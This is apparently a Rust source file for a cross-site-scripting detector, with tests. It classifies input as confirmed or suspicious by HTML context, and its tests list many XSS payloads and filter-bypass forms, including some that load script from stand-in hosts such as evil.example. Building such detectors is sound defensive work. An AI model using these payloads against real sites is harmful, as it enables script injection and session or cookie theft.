//! Cross-site scripting, by the HTML context a value would land in.
//!
//! Input: a normalized value (lower-case, NULs dropped, blanks folded), its byte classes and a
//! scratch buffer. Output: confirmed or suspicious. Confirmed when the value, pasted into a page,
//! would run script in one of these contexts:
//! - data (between tags): a `<script` tag (with attributes, code or a closing tag after it, or a
//!   breakout before it: not a bare `<script>` in a sentence), or any tag with an event handler (`on…=`, whatever
//!   its value: ``onerror=prompt`x` `` as much as `onerror=alert(1)`), a script URL in a URL
//!   attribute (`href`, `src`, `action`, `formaction`, `xlink:href`, `data`…), a `srcdoc` with
//!   markup, or CSS that runs script in a `style` attribute or a `<style>` element ([`css`]:
//!   `expression(`, `javascript:` URLs, `-moz-binding`, an `@import` written with escapes; CSS
//!   escapes and comments undone first, so `ja\vasc\ript:` counts);
//! - a quoted or unquoted attribute value: a quote or blank then a known event handler
//!   (`" onmouseover="alert(1)`), or any other `on…=` whose value starts with a sink
//!   (``" onpointerrawupdate=window[`al`+`ert`](1)``), or `">` then a tag as above;
//! - a URL attribute: the value starts with `javascript:`/`vbscript:`/`data:text/html`…, blanks
//!   inside the scheme included (`java\nscript:`); a `data:image/svg+xml` URL only when the SVG
//!   in it (base64 decoded, its first [`MAX_SVG`] bytes) has a `<script`, an event handler or a
//!   script URL: an avatar drawn as an SVG circle is an image, and only suspicious;
//! - a JS string: a quote (a template literal's backtick too), closing brackets, an operator,
//!   then a sink (`';alert(1)//`, `'-confirm``-'`, `"+document.cookie+"`,
//!   ``` `+window[`al`+`ert`](1)+` ```), or a call or index of a sink right inside `${`
//!   (`${alert(1)}`);
//! - script itself: the whole value is one dialog call (`alert(1)`, ``prompt`1` ``), or a CSS
//!   declaration calls `expression(` with a sink (`x:expression(alert(1))`).
//!
//! - a filter that strips a dangerous tag once: a tag name interrupted by a complete inner tag
//!   (`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<img<img> src=x onerror=alert(1)>`) is
//!   what such a filter turns into the dangerous tag, so the value is read again with its inner
//!   tags removed once ([`strip_once`], only values with that shape) and confirmed when that
//!   reading confirms. Generics in pasted code (`Vec<Vec<u8>>`, `List<Map<String>>`) and
//!   `a<b<c>d` have the shape and stay text, as what is left of them is.
//!
//! Tags the markup of ordinary rich text uses (`<p>`, `<a href="https://…">`, `<img src=…>`)
//! stay unconfirmed; risky tags without a script vector (`<iframe src=https://…>`, `<svg>`),
//! a `<style>` that imports a stylesheet by URL, sinks and script URLs elsewhere in a value,
//! and template literals that read a property (`${window.location.origin}`) are suspicious.
//! Every scan moves forward only.

use super::classes::{self, Mask};
use super::css;
use super::decode;
use super::js::{self, is_blank, sink_at};

/// Event handlers seen in payloads, for attribute breakouts outside a tag (inside a tag, any
/// `on…` attribute of five letters or more counts).
const EVENTS: &[&[u8]] = &[
    b"onload", b"onerror", b"onclick", b"onmouseover", b"onmouseout", b"onmouseenter", b"onmousemove", b"onmousedown",
    b"onmouseup", b"onfocus", b"onfocusin", b"onblur", b"onchange", b"oninput", b"onsubmit", b"onkeydown", b"onkeyup",
    b"onkeypress", b"ontoggle", b"onanimationstart", b"onanimationend", b"ontransitionend", b"onpointerover",
    b"onpointerdown", b"onpointerenter", b"onbeforeprint", b"onafterprint", b"onhashchange", b"onpageshow",
    b"onresize", b"onscroll", b"onwheel", b"ondrag", b"ondragstart", b"ondrop", b"oncopy", b"onpaste", b"oncut",
    b"onbegin", b"onend", b"onstart", b"onfinish", b"onplay", b"oncanplay", b"onloadstart", b"onmessage",
    b"onpopstate", b"onunload", b"onbeforeunload", b"onselect", b"onsearch", b"oninvalid", b"oncontextmenu",
    b"ondblclick", b"onauxclick", b"onreadystatechange", b"onactivate", b"onbeforeactivate", b"onformchange",
];

/// Attributes whose value is a URL the browser may navigate to or load.
fn url_attr(w: &[u8]) -> bool {
    matches!(
        w,
        b"href" | b"src" | b"action" | b"formaction" | b"data" | b"xlink:href" | b"background" | b"poster" |
        b"lowsrc" | b"dynsrc" | b"code" | b"codebase" | b"values" | b"to" | b"from" | b"by" | b"content" | b"ping" |
        b"icon" | b"manifest" | b"longdesc"
    )
}

/// Tags that load or run active content even without an event handler.
fn risky_tag(w: &[u8]) -> bool {
    matches!(
        w,
        b"iframe" | b"frame" | b"frameset" | b"object" | b"embed" | b"applet" | b"base" | b"meta" | b"svg" | b"math" |
        b"link" | b"style" | b"form" | b"isindex" | b"xml" | b"import" | b"template" | b"portal" | b"animate" |
        b"set" | b"handler"
    )
}

const SCHEMES: &[&[u8]] = &[b"javascript:", b"vbscript:", b"livescript:", b"data:text/html", b"data:application/xhtml", b"data:text/xml"];

/// Bytes of an SVG data URL read for script.
pub const MAX_SVG: usize = 64 * 1024;

/// Whether an SVG data URL in the value (in its original case, for base64) carries script, asked
/// once per value and only when a `data:image/svg` URL is where script would run.
struct Svg<'a> {
    raw: &'a [u8],
    scripted: Option<bool>,
}

impl Svg<'_> {
    fn scripted(&mut self, buf: &mut Vec<u8>) -> bool {
        let raw = self.raw;
        *self.scripted.get_or_insert_with(|| svg_scripts(raw, buf))
    }
}

/// Whether `v` starts (after blanks) with an SVG data URL.
fn svg_url(v: &[u8]) -> bool {
    let start = v.iter().position(|&b| !is_blank(b)).unwrap_or(v.len());
    v[start..].starts_with(b"data:image/svg")
}

/// Reads the first SVG data URLs of `raw` (at most 4, each decoded up to [`MAX_SVG`] bytes) for
/// script: a `<script`, a script URL, or an event handler attribute.
fn svg_scripts(raw: &[u8], buf: &mut Vec<u8>) -> bool {
    let mut from = 0;
    for _ in 0..4 {
        let Some(k) = classes::find_ignore_case(&raw[from..], b"image/svg") else { return false };
        let at = from + k + b"image/svg".len();
        let Some(comma) = raw[at..].iter().take(64).position(|&b| b == b',') else {
            from = at;
            continue;
        };
        let data = &raw[at + comma + 1..];
        if classes::find_ignore_case(&raw[at..at + comma], b";base64").is_some() {
            super::serial::base64_upto(data, MAX_SVG, buf);
        } else {
            buf.clear();
            buf.extend_from_slice(&data[..data.len().min(MAX_SVG)]);
        }
        buf.make_ascii_lowercase();
        classes::tick(buf.len());
        let svg = buf.as_slice();
        let handler = memchr::memmem::find_iter(svg, b"on").any(|i| {
            let letters = svg[i + 2..].iter().take(24).take_while(|b| b.is_ascii_alphabetic()).count();
            let eq = i + 2 + letters + svg[i + 2 + letters..].iter().take(8).take_while(|&&b| is_blank(b)).count();
            i > 0 && matches!(svg[i - 1], b' ' | b'\n' | b'\t' | b'/' | b'"' | b'\'') && letters >= 3 && svg.get(eq) == Some(&b'=')
        });
        if handler || [&b"<script"[..], b"javascript:", b"vbscript:", b"data:text/html"].iter().any(|m| classes::contains(svg, m)) {
            return true;
        }
        from = at + comma + 1;
    }
    false
}

/// Whether `w` is named as an event handler is: `on` and letters, five or more.
fn handler_name(w: &[u8]) -> bool {
    w.len() >= 5 && w.starts_with(b"on") && w.iter().all(u8::is_ascii_alphabetic)
}

/// Whether `v` (an attribute value or a whole value) starts with a script scheme, blanks and
/// controls allowed before it and between its letters, as browsers allow.
fn script_url(v: &[u8]) -> bool {
    classes::tick(v.iter().position(|&b| !is_blank(b) && b > 0x20).unwrap_or(v.len()) + 24);
    if !v.iter().find(|&&b| !is_blank(b) && b > 0x20).is_some_and(|b| matches!(b, b'j' | b'v' | b'l' | b'd')) {
        return false;
    }
    let mut letters = v.iter().copied().filter(|&b| !is_blank(b) && b > 0x20).take(24);
    let mut head = [0u8; 24];
    let mut n = 0;
    for b in letters.by_ref() {
        head[n] = b;
        n += 1;
    }
    SCHEMES.iter().any(|s| head[..n].starts_with(s))
}

/// Scans the tag whose name starts at `s[at]` (`buf` is scratch for CSS). Returns (confirmed,
/// risky tag, end of the tag).
fn tag(s: &[u8], at: usize, buf: &mut Vec<u8>, svg: &mut Svg<'_>) -> (bool, bool, usize) {
    let counted = |end: usize| classes::tick(end - at + 32);
    let name_len = s[at..].iter().take(32).take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b':' | b'-' | b'_')).count();
    let name = &s[at..at + name_len];
    let risky = risky_tag(name);
    let animation = matches!(name, b"set" | b"animate");
    let script = name == b"script";
    let mut confirmed = false;
    let mut attributes = false;
    let mut i = at + name_len;
    loop {
        while i < s.len() && (is_blank(s[i]) || s[i] == b'/') {
            i += 1;
        }
        if i >= s.len() || s[i] == b'>' {
            counted(i);
            // A bare `<script>` in a sentence ("<script> tags aren't allowed?") runs nothing a
            // payload would: one needs attributes (`src=`), code or a closing tag after it, or
            // a `>` right before it that closes the tag the value was put in: after a quote, or
            // first in the value (`"><script>`, `><script>`: a probe breaking out; "Tools
            // ><script> Manager" is prose).
            let breakout = at >= 2 && s[at - 2] == b'>' && (at == 2 || matches!(s[at - 3], b'"' | b'\''));
            confirmed |= script && (attributes || breakout || i >= s.len() || script_follows(&s[i + 1..]));
            return (confirmed, risky, i);
        }
        attributes = true;
        let a = i;
        while i < s.len() && !is_blank(s[i]) && !matches!(s[i], b'/' | b'>' | b'=') {
            i += 1;
        }
        let attr = &s[a..i];
        while i < s.len() && is_blank(s[i]) {
            i += 1;
        }
        let mut value: &[u8] = &[];
        if s.get(i) == Some(&b'=') {
            i += 1;
            while i < s.len() && is_blank(s[i]) {
                i += 1;
            }
            let v = i;
            match s.get(i) {
                Some(&q @ (b'"' | b'\'' | b'`')) => {
                    let end = classes::find_byte(q, &s[i + 1..]).map_or(s.len(), |k| i + 1 + k);
                    value = &s[v + 1..end];
                    i = (end + 1).min(s.len());
                }
                _ => {
                    while i < s.len() && !is_blank(s[i]) && s[i] != b'>' {
                        i += 1;
                    }
                    value = &s[v..i];
                    // Blanks the value spelled as references (`j&Tab;a&Tab;v…`) do not end it,
                    // and the URL parser drops them: they were decoded before this reads them.
                    confirmed |= url_attr(attr) && {
                        let close = classes::find_byte(b'>', &s[v..]).map_or(s.len(), |k| v + k);
                        i < close && script_url(&s[v..close])
                    };
                }
            }
        }
        confirmed |= handler_name(attr)
            || (url_attr(attr) && (script_url(value) || (svg_url(value) && svg.scripted(buf))))
            || (attr == b"srcdoc" && value.contains(&b'<'))
            || (attr == b"content" && refresh_to_script(value))
            // SVG animation setting a handler (`<set attributeName="onmouseover" to="alert(1)">`),
            // or a URL to one of its values (`values="x;javascript:alert(1)"`).
            || (animation && attr == b"attributename" && handler_name(value))
            || (animation && attr == b"values" && value.split(|&b| b == b';').take(8).any(script_url))
            || (attr == b"style" && css::scripting(value, true, buf, sink_at).0);
    }
}

/// Whether a meta refresh's `content` sends the page to a script URL: after its delay's `;` or
/// `,`, or after any `url =`, quoted or not (`0; URL=http://;URL=javascript:…` reaches the second),
/// as HTML's refresh steps read it.
fn refresh_to_script(value: &[u8]) -> bool {
    // A refresh starts with its delay; a description's `tutorial;javascript:void` is none.
    if !value.trim_ascii_start().first().is_some_and(|b| b.is_ascii_digit() || *b == b'.') {
        return false;
    }
    memchr::memchr3_iter(b';', b',', b'=', value).take(8).any(|k| {
        let url = value[k] != b'=' || value[..k].trim_ascii_end().ends_with(b"url");
        let rest = value[k + 1..].trim_ascii_start();
        url && script_url(rest.strip_prefix(b"'").or_else(|| rest.strip_prefix(b"\"")).unwrap_or(rest))
    })
}

/// Whether what follows a bare `<script>` reads as code: a call, an assignment or a closing tag
/// within its first bytes.
fn script_follows(rest: &[u8]) -> bool {
    let head = &rest[..rest.len().min(256)];
    classes::tick(head.len());
    head.is_empty() || head.iter().any(|&b| matches!(b, b'(' | b'`' | b'=')) || classes::contains(head, b"</") || classes::contains(head, b"<\\/")
}

/// An event handler outside any tag, after a quote or blank that ends the attribute it is in.
fn breakout_handler(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(k) = classes::find(&s[from..], b"on") {
        let at = from + k;
        from = at + 2;
        if at > 0 && !matches!(s[at - 1], b' ' | b'\n' | b'"' | b'\'' | b'/' | b'`') {
            continue;
        }
        classes::tick(EVENTS.len());
        let known = EVENTS.iter().find(|ev| classes::starts_word(s, at, ev)).map(|ev| ev.len());
        // Another `on…` name (a new or rare event) counts when a sink starts its value.
        let len = known.unwrap_or_else(|| 2 + s[at + 2..].iter().take(25).take_while(|b| b.is_ascii_alphabetic()).count());
        if !(5..=26).contains(&len) {
            continue;
        }
        let mut j = at + len;
        while j < s.len() && is_blank(s[j]) {
            j += 1;
        }
        if s.get(j) != Some(&b'=') || s.get(j + 1).is_none() {
            continue;
        }
        // Markup writes `onload=` (blanks around `=` are markup too: `" onfocus = …`); code
        // declares a variable `const onFinish = require(…)`, blanks around its `=`. So a known
        // name declared so needs a sink for its value, and an unknown name counts only as markup
        // writes it, with a payload's call for its value.
        let spaced = j != at + len;
        let before = s[..at].trim_ascii_end();
        let declared = matches!(before.rsplit(|b| !b.is_ascii_alphanumeric()).next(), Some(b"const" | b"let" | b"var"));
        if known.is_some() && !(declared && spaced) {
            return true;
        }
        j += 1;
        j += s[j..].iter().take(8).take_while(|&&b| is_blank(b) || matches!(b, b'"' | b'\'' | b'`')).count();
        let sink = if known.is_some() { js::sink_at(s, j) } else { !spaced && js::call_sink_at(s, j) };
        if sink {
            return true;
        }
    }
    false
}

/// Writes `s` with each inner tag that interrupts a tag name removed once into `out`: at `<`, an
/// optional `/`, letters, then a `<` that opens a tag (a letter or `/` after it) and the first
/// `>` after that, which closes it (`<scr<script>ipt>` → `<script>`, `</scr</script>ipt>` →
/// `</script>`). Returns false, with `out` untouched, when `s` has no such shape. Linear: the
/// scan moves forward, and so does the cached position of the next `>`.
pub fn strip_once(s: &[u8], out: &mut Vec<u8>) -> bool {
    let (mut i, mut copied, mut next_gt, mut found) = (0, 0, 0, false);
    while let Some(k) = classes::find_byte(b'<', &s[i..]) {
        let at = i + k;
        let name = at + 1 + usize::from(s.get(at + 1) == Some(&b'/'));
        let letters = s[name.min(s.len())..].iter().take(32).take_while(|b| b.is_ascii_alphabetic()).count();
        classes::tick(letters + 1);
        let inner = name + letters;
        i = at + 1;
        if letters == 0 || s.get(inner) != Some(&b'<') || !s.get(inner + 1).is_some_and(|&b| b.is_ascii_alphabetic() || b == b'/') {
            continue;
        }
        if next_gt <= inner {
            next_gt = classes::find_byte(b'>', &s[inner..]).map_or(s.len(), |g| inner + g);
        }
        if next_gt >= s.len() {
            break;
        }
        if !found {
            out.clear();
            found = true;
        }
        out.extend_from_slice(&s[copied..inner]);
        copied = next_gt + 1;
        i = copied;
    }
    if found {
        out.extend_from_slice(&s[copied..]);
        classes::tick(out.len());
    }
    found
}

/// Whether `s` (normalized), with its inner tags removed once into `out` ([`strip_once`]),
/// confirms XSS; `buf` is scratch. The result is read without its original case, which only the
/// base64 of an SVG data URL needs. One level: the result is not stripped again.
pub fn detect_stripped(s: &[u8], mask: Mask, out: &mut Vec<u8>, buf: &mut Vec<u8>) -> bool {
    if mask & classes::LT == 0 || !strip_once(s, out) {
        return false;
    }
    let stripped = out.as_slice();
    detect(stripped, stripped, classes::mask(stripped), buf).0
}

/// Looks for XSS in a normalized value `s`; `raw` is the value in its original case (for
/// base64), `buf` is scratch. Returns (confirmed, suspicious).
pub fn detect(s: &[u8], raw: &[u8], mask: Mask, buf: &mut Vec<u8>) -> (bool, bool) {
    let mut suspicious = false;
    let mut svg = Svg { raw, scripted: None };
    if mask & classes::LT != 0 {
        let mut i = 0;
        while let Some(k) = classes::find_byte(b'<', &s[i..]) {
            // A stylesheet instruction reads as a tag (`<?xml-stylesheet href="javascript:…"?>`);
            // the others (`<?xml …?>`, `<?php …?>`) hold no attributes a browser loads.
            let instruction = s.get(i + k + 1) == Some(&b'?');
            let at = i + k + 1 + usize::from(instruction);
            // IE's `<?import implementation="x.htc">` binds a behavior (script) to a tag: dead
            // with IE, and in no one's text.
            suspicious |= instruction && classes::starts_word(s, at, b"import") && {
                // Its attributes, within a bound: each `<?import` reads at most 256 bytes.
                let head = &s[at..s.len().min(at + 256)];
                let end = classes::find_byte(b'>', head).unwrap_or(head.len());
                classes::contains(&head[..end], b"implementation")
            };
            if instruction && !s[at..].starts_with(b"xml-stylesheet") || !s.get(at).is_some_and(u8::is_ascii_alphabetic) {
                i = at;
                continue;
            }
            // Scanners' XSS locators (`'';!--"<XSS>=&{()}`) name their tag so.
            suspicious |= classes::starts_word(s, at, b"xss");
            let (confirmed, risky, end) = tag(s, at, buf, &mut svg);
            if confirmed {
                return (true, true);
            }
            suspicious |= risky;
            i = end.max(at);
            // A `<style>` element's text is CSS, up to its end tag.
            if classes::starts_word(s, at, b"style") && i < s.len() {
                let close = classes::find(&s[i..], b"</style").map_or(s.len(), |k| i + k);
                let (c, sus) = css::scripting(&s[i + 1..close.max(i + 1)], true, buf, sink_at);
                if c {
                    return (true, true);
                }
                suspicious |= sus;
                i = close;
            }
        }
    }
    if mask & classes::EQ != 0 && breakout_handler(s) {
        return (true, true);
    }
    if mask & (classes::QUOTE | classes::BACKTICK) != 0 && js::string_breakout(s) {
        return (true, true);
    }
    if mask & classes::DOLLAR != 0 && mask & classes::BRACE != 0 && js::template_breakout(s) {
        return (true, true);
    }
    if mask & (classes::PAREN | classes::BACKTICK) != 0 && js::dialog_call(s) {
        return (true, true);
    }
    if mask & classes::BRACKET != 0 && mask & (classes::QUOTE | classes::BACKTICK | classes::PAREN) != 0 && js::built_name_call(s) {
        return (true, true);
    }
    if mask & classes::PAREN != 0 && mask & classes::DOT != 0 && js::constructor_call(s) {
        return (true, true);
    }
    // A value pasted into a style: `x:expression(alert(1))`, also written with escapes.
    let colon_call = mask & classes::PAREN != 0 && mask & classes::COLON != 0;
    if colon_call && (mask & classes::BACKSLASH != 0 || memchr::memmem::find(s, b"expression").is_some()) {
        let (c, sus) = css::scripting(s, false, buf, sink_at);
        if c {
            return (true, true);
        }
        suspicious |= sus;
    }
    // IE's `behavior:` in a value that may be pasted into a style (see `css::behavior_property`).
    suspicious |= colon_call && css::behavior_property(s);
    if mask & classes::COLON != 0 {
        if script_url(s) {
            let colon = classes::find_byte(b':', s).unwrap_or(0);
            // `javascript: the good parts` is prose; `javascript:alert(1)` is a URL.
            if !s.get(colon + 1).is_some_and(|&b| is_blank(b)) {
                return (true, true);
            }
        }
        if svg_url(s) {
            if svg.scripted(buf) {
                return (true, true);
            }
            suspicious = true;
        }
        suspicious |= classes::contains(s, b"javascript:");
    }
    // A popup call anywhere (`alert(`, `prompt(`, `confirm(`), or the cookie jar.
    let popup = |i: usize| [&b"alert"[..], b"prompt", b"confirm"].iter().any(|w| s[..i].ends_with(w));
    suspicious |= mask & classes::PAREN != 0 && memchr::memchr_iter(b'(', s).any(popup);
    suspicious |= mask & (classes::DOT | classes::BRACKET) != 0 && js::cookie_jar(s);
    // Script reads a comment as a blank, and blanks between a name and its `.` or `[`:
    // `self[/*x*/"alert"](1)`, `self /**/ ["alert"](1)`, `document/**/./**/cookie`.
    if mask & classes::STAR != 0 && decode::sql_comments(s, buf) {
        buf.retain(|&b| b != b' ');
        if mask & classes::BRACKET != 0 && js::built_name_call(buf) {
            return (true, true);
        }
        suspicious |= js::cookie_jar(buf);
    }
    (false, suspicious)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn xss(s: &str) -> (bool, bool) {
        let lower = s.to_ascii_lowercase();
        detect(lower.as_bytes(), s.as_bytes(), classes::mask(lower.as_bytes()), &mut Vec::new())
    }

    fn svg_data_url(svg: &str) -> String {
        const T: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut out = String::from("data:image/svg+xml;base64,");
        for c in svg.as_bytes().chunks(3) {
            let n = c.iter().enumerate().fold(0u32, |a, (i, &b)| a | u32::from(b) << (16 - 8 * i));
            for i in 0..4 {
                out.push(if i <= c.len() { T[(n >> (18 - 6 * i) & 63) as usize] as char } else { '=' });
            }
        }
        out
    }

    /// From libinjection's XSS samples (html5sec, the OWASP cheat sheet, Xenotix) and a red team:
    /// a script tag after a `>` that closes the app's tag, an SVG animation that sets a handler or
    /// a script URL, a meta refresh to a script URL, a stylesheet instruction's `href`, and
    /// blanks a value spelled as references; next to prose and pasted markup that read alike
    /// (XSLT's `msxsl:script` runs on no browser).
    #[test]
    fn breakouts_animations_and_refreshes() {
        for s in [
            "><script>x<\\/script>",
            "<meta http-equiv=refresh content=\"0,javascript:alert(1)\">",
            "<meta http-equiv=refresh content=\"0; url = 'javascript:alert(1)'\">",
            "<svg><animate attributename=href values=\"x;javascript:alert(1)\" />",
            "<set attributename=\"onmouseover\" to=\"alert(1)\"/>",
            "<meta http-equiv=\"refresh\" content=\"0;javascript:alert(1)\"/>",
            "<meta http-equiv=\"refresh\" content=\"0; url=http://;url=javascript:alert(1);\">",
            "<?xml-stylesheet href=\"javascript:alert(1)\"?><root/>",
            "<iframe src=j\ta\tv\ta\ts\tc\tr\ti\tp\tt\t:alert(1)></iframe>",
        ] {
            assert!(xss(s).0, "{s}");
        }
        for s in [
            "i use <b><script> tags",
            "go to tools ><script> manager",
            "<msxsl:script language=\"c#\" implements-prefix=\"user\">",
            "<mapping attributename=\"onboardingdate\" column=\"onboard_dt\"/>",
            "<?php // show online users ?>",
            "<?xml version=\"1.0\" onboarding=\"yes\"?>",
            "<meta name=\"keywords\" content=\"tutorial;javascript:void explained\">",
            "<meta http-equiv=\"refresh\" content=\"5; url=https://example.com/\">",
            "<?xml version=\"1.0\" encoding=\"utf-8\"?>",
            "<set attributename=\"opacity\" to=\"1\"/>",
            "<a href=/docs/javascript>javascript: the good parts</a>",
        ] {
            assert!(!xss(s).0, "{s}");
        }
        assert!(!xss("<?xml version=\"1.0\"?>").1, "pasted xml is not even suspicious");
    }

    #[test]
    fn svg_data_urls_are_confirmed_only_with_script_in_the_svg() {
        let circle = svg_data_url("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><circle cx=\"5\" cy=\"5\" r=\"4\"/></svg>");
        assert_eq!(xss(&circle), (false, true));
        assert_eq!(xss(&format!("<img src=\"{circle}\" alt=\"me\">")), (false, false));
        for svg in ["<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>", "<svg onload=\"alert(1)\"/>", "<svg><a href=\"javascript:alert(1)\"><text>x</text></a></svg>"] {
            let url = svg_data_url(svg);
            assert!(xss(&url).0, "{svg}");
            assert!(xss(&format!("<embed src=\"{url}\">")).0, "{svg}");
        }
        assert!(xss("data:image/svg+xml,<svg onload=alert(1)>").0);
        assert_eq!(xss("data:image/svg+xml;utf8,<svg><circle r='4'/></svg>"), (false, true));
    }

    #[test]
    fn payloads_in_each_context_are_confirmed() {
        for p in [
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js>",
            "\"><script>\"",
            "<script>\nprompt`1`",
            "<script>",
            "\"><img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<svg><animate onbegin=alert(1) attributeName=x>",
            "<math><maction actiontype=statusline xlink:href=\"javascript:alert(1)\">x</maction></math>",
            "<a href=\" javascript:alert(1)\">x</a>",
            "<iframe srcdoc=\"<script>alert(1)</script>\">",
            "<form><button formaction=javascript:alert(1)>x",
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
            "<div style=\"width:expression(alert(1))\">",
            "\" onmouseover=\"alert(1)",
            "' autofocus onfocus=alert(1) x='",
            "javascript:alert(document.domain)",
            "java\nscript:alert(1)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "';alert(1)//",
            "'-alert(1)-'",
            "\\\";alert(1);//",
            "'}};alert(1);//",
            "\"-confirm``-\"",
            "';top['al'+'ert'](1)//",
            "<details open ontoggle=confirm()>",
            "<x onclick=alert(1)>click",
        ] {
            assert!(xss(p).0, "{p}");
        }
    }

    #[test]
    fn rich_text_and_prose_stay_unconfirmed() {
        for t in [
            "<p>Hello <b>world</b></p>",
            "<a href=\"https://example.com/page\">link</a> and <img src=\"/a.png\" alt=\"x\">",
            "I <3 this, and 2 < 3 > 1",
            "javascript: the good parts",
            "Turn it on = off?",
            "He said \"stop\"; alert the team about it",
            "It's a one-off; confirm by email",
            "note = ' from ' + self.classlink(imclass, mod)",
            "return '%032x' % self.int",
            "print('*put*', self.sanitize(line))",
            "O'Brien",
            "See the docs: https://example.com",
            "<script> tags aren't allowed in reviews? I just wanted to write about the movie Script",
        ] {
            assert!(!xss(t).0, "{t}");
        }
    }

    #[test]
    fn backtick_calls_css_escapes_and_built_names_are_confirmed() {
        for p in [
            "<img src=k onerror=prompt`x`>",
            "<svg onload=alert`1`>",
            "prompt`1`",
            "alert(document.domain);",
            "`-alert(1)-`",
            "`+window[`al`+`ert`](1)+`",
            "${alert(1)}",
            "${top['al'+'ert'](1)}",
            "\" onpointerrawupdate=window[`al`+`ert`](1) x=\"",
            "<style>@import 'javascript:alert(1)';</style>",
            "<style>@im\\port 'http://evil.example/x.css';</style>",
            "<STYLE>li {list-style-image: url(\"ja\\vasc\\ript:alert(1)\");}</STYLE>",
            "<div style=\"background:url(ja\\vasc\\ript:alert(1))\">",
            "<div style=\"x:ex\\pression(alert(1))\">",
            "<p style=\"x:\\65 xpression(alert(1))\">",
            "red;x:expression(alert(1))",
        ] {
            assert!(xss(p).0, "{p}");
        }
    }

    #[test]
    fn code_css_and_prose_near_those_stay_unconfirmed() {
        for t in [
            "const url = `${window.location.origin}/api`",
            "Use `alert()` sparingly; `confirm` is worse",
            "alert the team (all of them)",
            "print('hello')",
            "<style>body { font-family: \"\\5FAE\\8F6F\\96C5\\9ED1\", sans-serif } q::before { content: \"\\201C\" }</style>",
            "<style>.md\\:flex { display: flex }</style>",
            "<style>@import url('https://fonts.googleapis.com/css?family=Roboto');</style>",
            "Note: expression(s) are evaluated lazily",
            "turn on = off",
            "the onion = cheap",
            "const onThisPage = document.getElementById('x'); onready=window.init",
            "<div style=\"scroll-behavior: smooth; overscroll-behavior:contain\">x</div>",
            "<style>html { scroll-behavior: smooth }</style>",
            "const r = `${await fetch(url)}`",
        ] {
            assert!(!xss(t).0, "{t}");
        }
        assert_eq!(xss("<style>@import url('https://fonts.googleapis.com/css?family=Roboto');</style>"), (false, true));
    }

    #[test]
    fn risky_tags_and_stray_sinks_are_suspicious() {
        assert_eq!(xss("<iframe src=\"https://www.youtube.com/embed/x\"></iframe>"), (false, true));
        assert_eq!(xss("call alert(1) there"), (false, true));
        assert_eq!(xss("color:red;behavior:url(xss.htc)"), (false, true), "IE's behavior outside a style");
        assert_eq!(xss("color:red;scroll-behavior:smooth (x)"), (false, false));
        for t in [
            "'';!--\"<XSS>=&{()}",
            "<HTML xmlns:xss><?import namespace=\"xss\" implementation=\"http://ha.ckers.org/xss.htc\"><xss:xss>XSS</xss:xss></HTML>",
            "(document)[\"cookie\"]",
            "document/*foo*/./*bar*/cookie",
        ] {
            assert_eq!(xss(t), (false, true), "{t}");
        }
        for t in ["<?import javafx.scene.control.Button?>", "<?xml version=\"1.0\"?><a/>", "Set the cookie to accept", "<xsl:template match=\"/\">", "a /* note */ b", "docs[\"cookies\"] and recipes", "self.headers[\"cookie\"] = jar"] {
            assert_eq!(xss(t), (false, false), "{t}");
        }
    }

    #[test]
    fn comments_in_a_built_name_call_are_blanks() {
        for p in ["self[/*foo*/\"alert\"](self[\"document\"/*bar*/][\"cookie\"])", "self  /*jhb*/  [  /*bar*/  \"alert\"](\"xss\")", "top/**/['al'/**/+'ert'](1)"] {
            assert_eq!(xss(p), (true, true), "{p}");
        }
        assert_eq!(xss("self /* the global */ ['on'+'load']"), (false, false));
    }

    fn stripped(s: &str) -> bool {
        let lower = s.to_ascii_lowercase();
        detect_stripped(lower.as_bytes(), classes::mask(lower.as_bytes()), &mut Vec::new(), &mut Vec::new())
    }

    #[test]
    fn tags_rebuilt_by_a_strip_once_filter_are_confirmed() {
        for p in [
            "<scr<script>ipt src=https://x/y.js></script>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<SCR<SCRIPT>IPT>alert(1)</SCR</SCRIPT>IPT>",
            "<img<img> src=x onerror=alert(1)>",
            "<sv<svg>g onload=alert(1)>",
            "<ifr<b>ame srcdoc=\"<script>alert(1)</script>\">",
        ] {
            assert!(stripped(p), "{p}");
        }
        assert!(!xss("<scr<script>ipt src=https://x/y.js></script>").0, "the value as sent is not the payload");
    }

    #[test]
    fn generics_and_comparisons_with_inner_tags_stay_unconfirmed() {
        for t in [
            "a<b<c>d",
            "let v: Vec<Vec<u8>> = vec![];",
            "List<Map<String, Object>> rows = new ArrayList<>();",
            "Map<String<T>> m; if (a<b<c>0) x",
            "std::vector<std::pair<int,int>> v;",
            "x<y<z",
            "<b<i>>bold italic</i></b>",
            "Promise<Array<{ onload: string }>> p",
        ] {
            assert!(!stripped(t), "{t}");
        }
        let mut out = Vec::new();
        assert!(!strip_once(b"<p>plain</p> a < b", &mut out), "no shape, no copy");
        assert!(strip_once(b"vec<vec<u8>>", &mut out) && out == b"vec<vec>");
        assert!(!strip_once(&b"<a<b".repeat(10_000), &mut out), "no `>`: nothing to strip");
    }

    #[test]
    fn an_unterminated_tag_or_quote_ends_the_scan_without_hiding_earlier_tags() {
        assert!(xss("<svg onload=alert(1)//").0);
        assert!(!xss("<a title=\"never closed <b>").0);
        assert!(!xss(&"<a ".repeat(10_000)).0);
    }
}
